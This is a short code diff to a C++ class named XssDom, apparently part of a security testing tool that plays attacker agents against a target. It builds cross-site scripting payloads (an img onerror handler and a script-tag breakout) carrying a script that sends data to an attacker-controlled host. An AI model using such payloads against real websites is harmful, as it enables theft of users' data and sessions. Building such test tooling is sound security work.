@@ -14,8 +14,7 @@ class XssDom final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || !victim_signs_in(target)) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
-        std::string const script = taking_script(target, address_on(*evil, "c"));
+        std::string const script = taking_script(target, collecting_address(*evil));
         std::vector<std::string> const texts = {"<img src=\"x:\" onerror=" + in_quotes(script) +
                                                     ">",  // a script set as HTML never runs
                                                 "\"><script>" + script + "</script>",
